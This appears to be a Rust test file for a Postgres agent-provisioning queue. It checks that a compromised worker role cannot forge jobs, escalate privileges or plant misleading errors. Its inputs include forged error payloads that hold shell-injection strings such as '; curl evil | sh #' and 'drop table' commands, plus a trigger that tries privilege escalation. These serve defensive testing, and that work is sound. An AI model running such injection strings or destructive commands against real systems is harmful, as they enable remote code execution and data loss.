//! Whoever knows the worker's password writes to the queue what no worker would.

use crate::support::{ADA, ADMIN, Admin, BEN, Database, ROLES, WORKER, ask, expect, json};

/// Everything that decides which agents go, and what goes with them.
const STATE: &str = "select md5(concat(
    (select string_agg(a::text, ',' order by id) from public.agents a),
    (select string_agg(w::text, ',' order by id) from public.whatsapp_configuration w),
    (select string_agg(j::text, ',' order by id) from provisioning.jobs j),
    (select string_agg(p::text, ',' order by agent_id) from provisioning.agents p),
    (select string_agg(t::text, ',' order by relation::oid) from provisioning.agent_tables t),
    (select string_agg(d::text, ',' order by agent_id) from provisioning.deleted_agents d),
    (select last_value from provisioning.jobs_id_seq)))";

/// Two agents with tables, nobody at work, and what is left of several deletions: that of Ben's waits for an operator
/// (job 3), that of one that never had tables is dead (job 4), and one that was asked for is pending (job 5). Job 6
/// is the provision of an agent that somebody inserts.
async fn crm() -> (Database, Admin) {
    let db = Database::new().await;
    let admin = db.admin().await;
    let service = db.service().await;
    admin.populate().await;
    admin.settled().await;
    drop(service);
    admin.deserted().await;
    admin
        .run(&format!(
            "insert into provisioning.jobs (kind, agent_id, agent_prefix, user_id, state, finished_at)
                 values ('deprovision', 2, 'agt_ben', '{}', 'paused', now()),
                        ('deprovision', 8, 'agt_8', null, 'dead', now());
             insert into provisioning.jobs (kind, agent_id, agent_prefix) values ('deprovision', 9, 'agt_9');
             insert into public.agents (id, agent_prefix) values (10, 'agt_10')",
            BEN.id
        ))
        .await;
    (db, admin)
}

/// What is tried, each for good, and the SQLSTATE; `-` where it is allowed and changes nothing.
const TRIED: &str = "
insert into provisioning.jobs (kind, agent_id, agent_prefix) values ('deprovision', 1, 'agt_ada')        | 42501
insert into provisioning.jobs (kind, agent_id, agent_prefix) values ('repair', 1, 'agt_ada')             | 42501
update provisioning.jobs set kind = 'deprovision', state = 'pending', finished_at = null where id = 1    | 42501
update provisioning.jobs set agent_id = 1, agent_prefix = 'agt_ada' where id = 5                         | 42501
update provisioning.jobs set user_id = (select user_id from provisioning.jobs where id = 3) where id = 5 | 42501
update provisioning.jobs set unreported = not unreported                                                 | 42501
update provisioning.jobs set deletion_confirmed = true                                                   | 42501
update provisioning.jobs set keys_removed = true                                                         | 42501
update provisioning.jobs set state = 'pending', finished_at = null where id = 3                          | 42501
update provisioning.jobs set priority = 1                                                                | 42501
delete from provisioning.jobs                                                                            | 42501
truncate provisioning.jobs                                                                               | 42501
insert into provisioning.attempts select from (values (1)) v                                             | 42501
update provisioning.attempts set number = 2                                                              | 42501
delete from provisioning.attempts                                                                        | 42501
select provisioning.note_attempt(1, 'failed', 1, null, null)                                             | 42501
do $$ begin lock table provisioning.jobs in share mode; end $$                                           | 42501
select from provisioning.jobs for key share                                                              | 42501
alter table provisioning.jobs disable trigger all                                                        | 42501
select setval('provisioning.jobs_id_seq', 1)                                                             | 42501
select nextval('provisioning.jobs_id_seq')                                                               | 42501
insert into provisioning.deleted_agents (agent_id, agent_prefix) values (1, 'agt_ada')                   | 42501
update provisioning.deleted_agents set agent_id = 1                                                      | 42501
delete from provisioning.deleted_agents                                                                  | 42501
insert into provisioning.agents values (7, 'agt_7', null, 1, 'check')                                    | 42501
update provisioning.agents set agent_id = 7 where agent_id = 1                                           | 42501
update provisioning.agents set agent_prefix = 'agt_7' where agent_id = 1                                 | 42501
update provisioning.agents set user_id = null                                                            | 42501
delete from provisioning.agents                                                                          | 42501
truncate provisioning.agents cascade                                                                     | 42501
insert into provisioning.agent_tables values ('public.users', 1, 'users')                                | 42501
update provisioning.agent_tables set relation = 'public.users', table_name = 'users' where agent_id = 1  | 42501
insert into provisioning.agent_types values ('public.role', 1, 'role')                                   | 42501
truncate provisioning.agent_tables                                                                       | 42501
delete from public.agents where id = 1                                                                   | 42501
delete from public.agents where id = 2                                                                   | 42501
update public.whatsapp_configuration set is_active = false                                               | 42501
select is_active from public.whatsapp_configuration                                                      | 42501
select provisioning.enqueue_or_replay('deprovision', 1, 'agt_ada', null, 'x')                            | 42501
select * from provisioning.leaving_agent(1)                                                              | 42501
select * from provisioning.remove_agent(1, null)                                                         | 42501
select * from provisioning.remove_agent(2, null)                                                         | 42501
select * from provisioning.enqueue('deprovision', '{1}', null, null, null, null, 0::smallint)            | 42501
select * from provisioning.enqueue('provision', '{1}', null, null, null, null, 0::smallint)              | 42501
select * from provisioning.enqueue(null, '{1}', null, null, null, null, 0::smallint)                     | 42501
select * from provisioning.enqueue('repair', '{7,10}', null, null, null, null, 0::smallint)              | -
select * from provisioning.replay('{3}', null, '{paused}', null, null, false)                            | 42501
select * from provisioning.replay('{3}', null, '{dead,paused}', null, null, false)                       | 42501
select * from provisioning.replay(null, null, '{paused}', null, null, false)                             | 42501
select * from provisioning.replay(null, null, '{paused}', null, null, true)                              | 42501
select * from provisioning.replay(null, null, null, null, null, false)                                   | -
select * from provisioning.replay(null, 'agt_ben', '{dead,paused}', null, null, false)                   | -
select * from provisioning.replay('{1}', null, '{dead,succeeded}', null, null, false)                    | -
select * from provisioning.cancel('{1,2}', null, null, false)                                            | -
select provisioning.settle(1, 'provisioned', 1)                                                          | 55000
select provisioning.settle(3, 'trashed', 1)                                                              | 55000
select provisioning.settle(5, 'superseded', 1)                                                           | 55000
select provisioning.begin_deletion(3)                                                                    | 55000
select provisioning.begin_deletion(6)                                                                    | 55000
select provisioning.cancel_earlier(3)                                                                    | 55000
select provisioning.cancel_earlier(6)                                                                    | 55000
select provisioning.record_failure(3, 0, 0, 'pending', 0, 0, false, null, false, null)                   | -
select provisioning.record_failure(6, 0, 0, 'paused', 0, 0, false, null, false, null)                    | 23514
select provisioning.record_failure(5, 0, 0, 'succeeded', 0, 0, false, null, false, null)                 | 22023
select provisioning.record_failure(5, 0, -5, 'pending', 0, 0, false, null, false, null)                  | 22023
select provisioning.requeue_behind_former(6, 1)                                                          | 55000
select provisioning.requeue_behind_former(6, 10)                                                         | 55000
select provisioning.requeue_behind_former(3, 2)                                                          | 55000
select provisioning.enter_agent(7, 1, 'check')                                                           | -
select provisioning.enter_agent(1, 1, 'check')                                                           | 23505
select provisioning.end_blocked(10)                                                                      | -
select * from provisioning.prune(0, 0, 100, true)                                                        | -
select * from provisioning.reconcile()                                                                   | -";

#[tokio::test]
async fn no_forged_job_counts_and_no_rule_of_the_queue_is_broken() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    let before: String = admin.one(STATE).await;
    for line in TRIED.trim().lines() {
        let (sql, expected) = line.rsplit_once('|').unwrap();
        let found = worker.answer(sql).await;
        let found = found.map_or_else(|error| error.code().code().to_owned(), |_| "-".to_owned());
        assert_eq!(found, expected.trim(), "{sql}");
        assert_eq!(admin.one::<String>(STATE).await, before, "{sql}");
    }
    // What the owner of tables may do makes no deletion of their agent, either.
    worker.run("delete from provisioning.agent_tables; select provisioning.reconcile()").await;
    let jobs = "select count(*) from provisioning.jobs";
    assert_eq!(admin.one::<i64>(jobs).await, 6);
}

#[tokio::test]
async fn what_the_worker_writes_is_cut_to_its_length() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    let error =
        "select jsonb_build_object('text', x, 'sqlstate', x, 'code', 'panic', 'file', x, 'line', 1,
            'statement', x, 'detail', x, 'hint', x,
            'relations', to_jsonb(array_fill(x, '{110}')))
        from repeat('x', 100000) x";
    let record =
        "select provisioning.record_failure(5, 0, 0, 'pending', 0, 0, false, null, false, ";
    worker.run(&format!("{record} ({error}))")).await;
    let lengths = "select length(last_error), length(last_sqlstate), length(last_error_file),
            length(last_error_statement), length(last_error_detail), length(last_error_hint),
            cardinality(last_error_relations), (select max(length(r)) from unnest(last_error_relations) r)
        from provisioning.jobs where id = 5";
    assert_eq!(admin.rows(lengths).await, ["20000|5|255|1000|8000|2000|100|300"]);
    let code = format!("{record} '{{\"code\": \"Run this!\"}}')");
    assert_eq!(worker.answer(&code).await.unwrap_err().code().code(), "23514");
    let asked = "select from provisioning.enqueue('repair', '{1}', false, null, null, repeat('x', 100000), 0::smallint)";
    worker.run(asked).await;
    worker
        .run("select from provisioning.cancel('{5}', repeat('x', 100000), repeat('x', 100000), false)")
        .await;
    let lengths = "select max(length(requested_by)), max(length(outcome)) from provisioning.jobs";
    assert_eq!(admin.rows(lengths).await, ["120|1135"]);
}

#[tokio::test]
async fn a_job_that_one_session_has_claimed_is_no_others() {
    let (db, admin) = crm().await;
    admin.run("delete from provisioning.jobs where id <> 5").await;
    let (first, second) = (Admin(db.connect(WORKER).await), Admin(db.connect(WORKER).await));
    let claim = "select id, kind from provisioning.claim('{deprovision}', 1000, null)";
    first.run("begin").await;
    assert_eq!(first.rows(claim).await, ["5|deprovision"]);
    second.run("set lock_timeout = '100ms'").await;
    assert_eq!(second.rows(claim).await, [""; 0]);
    assert_eq!(second.rows("select provisioning.is_free(5)").await, ["f"]);
    for (sql, expected) in [
        ("select * from provisioning.remove_agent(9, null)", "42501"),
        ("select provisioning.settle(5, 'trashed', 1)", "55P03"),
        ("select provisioning.begin_deletion(5)", "55P03"),
    ] {
        let refused = second.answer(sql).await.unwrap_err();
        assert_eq!(refused.code().code(), expected, "{sql}");
    }
    let cancelled = "select picked from provisioning.cancel('{5}', null, null, false)";
    assert_eq!(second.rows(cancelled).await, ["f"]);
    // To the one that has claimed it nothing stands in the way.
    first
        .run("select provisioning.remove_agent(9, null); select provisioning.settle(5, 'deprovisioned', 1); commit")
        .await;
    assert_eq!(admin.rows("select state from provisioning.jobs").await, ["succeeded"]);
}

#[tokio::test]
async fn nobody_proves_an_absence_by_what_was() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    let past = "begin isolation level repeatable read; select from public.agents";
    // Without a trace of who asked, as after an accident; and then somebody puts the agent back.
    let gone = "alter table public.agents disable trigger user, enable trigger guard_agent; delete from public.agents where id = 1";
    admin.run(gone).await;
    worker.run(past).await;
    admin.run("insert into public.agents (id, agent_prefix) values (1, 'agt_ada')").await;
    for sql in [
        "select * from provisioning.reconcile()",
        "select * from provisioning.remove_agent(9, null)",
        "select provisioning.requeue_behind_former(6, 1)",
    ] {
        worker.run("savepoint tried").await;
        assert_eq!(worker.answer(sql).await.unwrap_err().code().code(), "25000", "{sql}");
        worker.run("rollback to savepoint tried").await;
    }
    worker.run("commit; select provisioning.reconcile()").await;
    assert_eq!(admin.one::<i64>("select count(*) from provisioning.jobs").await, 6);
}

#[tokio::test]
async fn a_deletion_counts_as_done_when_the_agent_is_gone() {
    let (db, admin) = crm().await;
    admin.run("delete from provisioning.jobs; select from public.delete_agent(1)").await;
    let job: i64 = admin.one("select id from provisioning.jobs").await;
    let worker = Admin(db.connect(WORKER).await);
    for outcome in ["trashed", "deprovisioned", "row_deleted", "superseded", "x"] {
        let settle = format!("select provisioning.settle({job}, '{outcome}', 1)");
        assert_eq!(worker.answer(&settle).await.unwrap_err().code().code(), "55000", "{outcome}");
    }
    // One that nobody asked for, of an agent that exists after all: what the caller says does not count.
    admin.run("update provisioning.jobs set unreported = true").await;
    let removed = worker.rows("select superseded from provisioning.remove_agent(1, null)").await;
    assert_eq!(removed, ["t"]);
    worker.run(&format!("select provisioning.settle({job}, 'superseded', 1)")).await;
    assert_eq!(admin.rows("select id from public.agents where id = 1").await, ["1"]);
}

#[tokio::test]
async fn only_the_owner_of_the_schema_approves_a_deletion() {
    let (db, admin) = crm().await;
    let (worker, owner) = (db.url(WORKER), db.url(ADMIN));
    let state = "select state, deletion_confirmed, replayed_by from provisioning.jobs where id in (3, 4) order by id";
    for args in
        [&["approve", "3"][..], &["approve", "--all"], &["replay", "3"], &["replay", "4", "3"]]
    {
        let refused = ask(&worker, &[&["jobs"], args].concat()).await;
        let way_out =
            ["may not approve deletions", "Run this as postgres, the owner of schema provisioning"];
        expect(&refused, 1, &way_out);
        assert_eq!(admin.rows(state).await, ["paused|f|-", "dead|f|-"], "{args:?}");
    }
    // A dead one is tried again, and the limits hold for it as before.
    expect(&ask(&worker, &["jobs", "replay", "4"]).await, 0, &["replayed 1 job"]);
    assert_eq!(admin.rows(state).await, ["paused|f|-", "pending|f|agent_provisioner (ada)"]);
    expect(&ask(&owner, &["jobs", "approve", "3"]).await, 0, &["approved 1 job"]);
    let approved = ["pending|t|postgres (ada)", "pending|f|agent_provisioner (ada)"];
    assert_eq!(admin.rows(state).await, approved);
    // Who it was is the role that asks, and not the one that owns the function.
    expect(&ask(&worker, &["jobs", "cancel", "5"]).await, 0, &["cancelled 1 job"]);
    let outcome = "select outcome from provisioning.jobs where id = 5";
    assert_eq!(admin.rows(outcome).await, ["cancelled by agent_provisioner (ada)"]);
}

#[tokio::test]
async fn a_worker_without_these_rights_does_all_of_its_work() {
    let db = Database::new().await;
    let admin = db.admin().await;
    let _service = db.service_with(&[("WORKER__RECONCILE_INTERVAL", "100ms")]).await;
    admin.populate().await;
    admin.create("agt_orphan").await;
    admin.settled().await;
    let url = db.url(WORKER);
    admin.run("drop index public.agt_ada_customers_phone_idx").await;
    expect(&ask(&url, &["agents", "repair", "agt_ada", "--wait"]).await, 0, &["1 job succeeded"]);
    expect(&ask(&url, &["agents", "convert", "--reference", "check", "--wait"]).await, 0, &[]);
    expect(&ask(&url, &["agents", "upgrade"]).await, 0, &[]);
    // What no trigger has reported, reconcile finds.
    admin
        .run(
            "alter table public.agents disable trigger user, enable trigger guard_agent;
             delete from public.agents where agent_prefix = 'agt_orphan';
             insert into public.agents (agent_prefix) values ('agt_new');
             alter table public.agents enable trigger user",
        )
        .await;
    admin
        .holds("select count(*) = 3 from provisioning.agents where agent_prefix <> 'agt_orphan'")
        .await;
    admin
        .holds(
            "select not exists (select from provisioning.agents where agent_prefix = 'agt_orphan')",
        )
        .await;
    admin.run(&format!("{}; select from public.delete_agent(1); commit", ADA.begin())).await;
    admin.settled().await;
    assert_eq!(admin.tables("agt_ada").await, [""; 0]);
    let active = "select is_active from public.whatsapp_configuration order by id";
    assert_eq!(admin.rows(active).await, ["f", "t"]);
    admin.run("create table public.agt_no_orders ()").await;
    admin.create("agt_no").await;
    let dead = "select id from provisioning.jobs where state = 'dead'";
    admin.holds(&format!("select exists ({dead})")).await;
    let id = admin.rows(dead).await.remove(0);
    expect(&ask(&url, &["jobs", "cancel", &id]).await, 0, &["cancelled 1 job"]);
    let left = "select count(*) from provisioning.jobs";
    let before: i64 = admin.one(left).await;
    expect(&ask(&url, &["jobs", "prune", "--older-than", "0s"]).await, 0, &["deleted"]);
    assert!(admin.one::<i64>(left).await < before);
}

#[tokio::test]
async fn rights_of_an_older_installation_are_found_and_taken_away() {
    let db = Database::new().await;
    let admin = db.admin().await;
    admin
        .run(
            "grant insert, update, delete on provisioning.jobs, provisioning.agents to agent_provisioner;
             grant update on provisioning.moves to agent_provisioner;
             grant delete on public.agents, provisioning.deleted_agents to agent_provisioner;
             grant select (user_id, is_active), update (is_active) on public.whatsapp_configuration
                 to agent_provisioner;
             create policy worker_delete on public.agents for delete to agent_provisioner using (true);
             create policy worker_update on public.whatsapp_configuration for update
                 to agent_provisioner using (true)",
        )
        .await;
    for role in [WORKER, ADMIN] {
        let (severity, found) = role_finding(&db.url(role)).await;
        assert_eq!(severity, "warning", "{found}");
        for right in [
            "insert, update, delete on provisioning.jobs",
            "insert, update, delete on provisioning.agents",
            "delete on provisioning.deleted_agents",
            "delete on public.agents",
            "update on provisioning.moves",
            "update on public.whatsapp_configuration",
        ] {
            assert!(found.contains(right), "{right} is not in: {found}");
        }
    }
    admin.run(ROLES).await;
    assert_eq!(role_finding(&db.url(WORKER)).await.0, "ok");
    let policies = "select count(*) from pg_policies
                    where policyname ^@ 'worker' and tablename = 'whatsapp_configuration' or policyname = 'worker_delete'";
    assert_eq!(admin.one::<i64>(policies).await, 0);
}

/// How bad doctor finds the worker's rights, and why.
async fn role_finding(url: &str) -> (String, String) {
    let findings = json(&ask(url, &["doctor", "--json"]).await);
    let role = findings.as_array().unwrap().iter().find(|finding| finding["what"] == "role");
    let text = |key: &str| role.unwrap()[key].as_str().unwrap().to_owned();
    (text("severity"), text("found"))
}

#[tokio::test]
async fn no_error_that_is_forged_makes_an_operator_rename_or_run_anything() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    // Of agent 10, which waits for its tables; and what is forged names others' and the prefix of a living agent.
    admin
        .run(
            "insert into public.agents (id, agent_prefix) values (11, 'agt');
             create table public.agt_10_orders (id int)",
        )
        .await;
    let id = admin.rows("select id from provisioning.jobs where agent_id = 11").await.remove(0);
    let url = db.url(ADMIN);
    for (code, relations) in [
        ("relation_in_the_way", r#"["public.users"]"#),
        ("relation_in_the_way", r#"["public."]"#),
        ("relation_in_the_way", r#"["public.agents"]"#),
        ("relation_in_the_way", r#"["public.agt_ada_orders"]"#),
        ("relation_in_the_way", r#"["public.agt_ada_orders_pkey"]"#),
        ("relation_in_the_way", r#"["public.agt_10_orders"]"#),
        ("tables_not_adopted", r#"["public.a", "; curl evil | sh #"]"#),
        ("write_ignored", r#"["public.agents by running: drop table public.agents;"]"#),
        ("tables_renamed", r#"["public.users"]"#),
        ("tables_attached", r#"["public.users"]"#),
        ("prefix_kept", r#"["public.users"]"#),
        ("index_invalid", r#"["; curl evil | sh #"]"#),
    ] {
        let error = format!(
            r#"{{"text": "drop schema public", "code": "{code}", "relations": {relations}}}"#
        );
        let forge = format!(
            "select provisioning.record_failure({id}, 0, 0, 'dead', 0, 0, false, null, false, '{error}')"
        );
        worker.run(&forge).await;
        let shown = json(&ask(&url, &["jobs", "show", &id, "--json"]).await);
        assert_eq!([&shown["state"], &shown["error_code"]], ["dead", code], "{shown}");
        let next = shown["next"].as_str().unwrap();
        for text in ["alter ", "drop table", "drop schema", "curl", "rename to", "users", "agt_ada"]
        {
            assert!(!next.contains(text), "{code} {relations}: {next}");
        }
        admin
            .run(&format!(
                "update provisioning.jobs set state = 'pending', finished_at = null where id = {id}"
            ))
            .await;
    }
}

#[tokio::test]
async fn code_of_the_workers_that_an_operator_sets_off_has_none_of_his_rights() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    // A trigger on a table of Ada's, with what her agent's end or anybody's row may set off.
    worker
        .run(
            "set search_path = public, pg_temp;
             create table public.tried (sqlstate text);
             create function public.try() returns trigger language plpgsql as $$
             declare
                 call text;
             begin
                 foreach call in array array[
                     'provisioning.replay(array[3], null, ''{paused}'', ''x'', null, false)',
                     'provisioning.cancel(array[5], ''x'', null, false)',
                     'provisioning.publish(''public.whatsapp_configuration'')',
                     'provisioning.purge_item(1, false)']
                 loop
                     begin
                         execute 'select ' || call;
                         insert into public.tried values ('done');
                     exception when others then
                         insert into public.tried values (sqlstate);
                     end;
                 end loop;
                 return null;
             end $$;
             create trigger try after insert on public.agt_ada_customers execute function public.try();
             alter table public.agt_ada_customers no force row level security",
        )
        .await;
    let before: String = admin.one(STATE).await;
    admin.run("grant insert on public.tried to public; grant execute on function public.try() to public").await;
    admin.run("insert into public.agt_ada_customers (name, phone) values ('x', 'y')").await;
    assert_eq!(
        admin.rows("select sqlstate, count(*) from public.tried group by 1").await,
        ["42501|4"]
    );
    assert_eq!(admin.one::<String>(STATE).await, before);
}

#[tokio::test]
async fn a_row_that_was_put_back_outlives_the_deletion_whatever_is_cancelled() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    let user = format!("update public.agents set user_id = '{}' where id = 1", BEN.id);
    admin.run("update public.agents set user_id = null where id = 2").await;
    admin.run("delete from public.agents where id = 1").await;
    admin.run("insert into public.agents (id, agent_prefix) values (1, 'agt_ada')").await;
    admin.run(&user).await;
    let provision = "select id from provisioning.jobs where agent_id = 1 and kind = 'provision' and state = 'pending'";
    let id = admin.rows(provision).await.remove(0);
    worker.run(&format!("select provisioning.cancel(array[{id}], null, null, false)")).await;
    worker
        .run(
            "drop table public.agt_ada_customers, public.agt_ada_messages, public.agt_ada_orders,
                public.agt_ada_orders_items; select provisioning.remove_agent(1, null)",
        )
        .await;
    assert_eq!(admin.rows("select id from public.agents where id = 1").await, ["1"]);
    let active =
        format!("select is_active from public.whatsapp_configuration where user_id = '{}'", BEN.id);
    assert_eq!(admin.rows(&active).await, ["t"]);
    let deletion = "select id from provisioning.jobs where agent_id = 1 and kind = 'deprovision' and state = 'pending'";
    let id = admin.rows(deletion).await.remove(0);
    worker.run(&format!("select provisioning.settle({id}, 'deprovisioned', 0)")).await;
}

#[tokio::test]
async fn a_cancelled_deletion_is_queued_again_by_nobody_but_an_operator() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    admin.run("alter table public.agents disable trigger refuse_foreign_code; delete from public.agents where id = 2").await;
    worker.run("select provisioning.cancel(array[3], null, null, false)").await;
    admin.run("insert into public.agents (agent_prefix) values ('agt_ben')").await;
    let provision =
        "select max(id) from provisioning.jobs where kind = 'provision' and state = 'pending'";
    let job: i64 = admin.one(provision).await;
    let call = format!("select provisioning.requeue_behind_former({job}, 2)");
    assert_eq!(worker.attempt("begin", &call).await.unwrap_err().code().code(), "55000");
    assert_eq!(admin.one::<i64>(provision).await, job);
}

#[tokio::test]
async fn ids_of_tables_that_are_no_agents_are_not_drawn_for_the_worker() {
    let (db, admin) = crm().await;
    let worker = Admin(db.connect(WORKER).await);
    admin.run("create sequence public.of_the_project").await;
    for sequence in ["public.of_the_project", "public.agents_id_seq", "provisioning.jobs_id_seq"] {
        for caller in ["'postgres'", "null"] {
            let draw = format!("select provisioning.next_id(1, '{sequence}', {caller})");
            assert_eq!(
                worker.attempt("begin", &draw).await.unwrap_err().code().code(),
                "42501",
                "{draw}"
            );
        }
    }
    assert!(!admin.one::<bool>("select is_called from public.of_the_project").await);
    admin
        .run(&format!(
            "{}; insert into public.agt_ada_customers (name, phone) values ('x', 'y'); commit",
            ADA.begin()
        ))
        .await;
    admin.run("begin; set local role service_role; insert into public.agt_ada_customers (name, phone) values ('x', 'y'); commit").await;
}
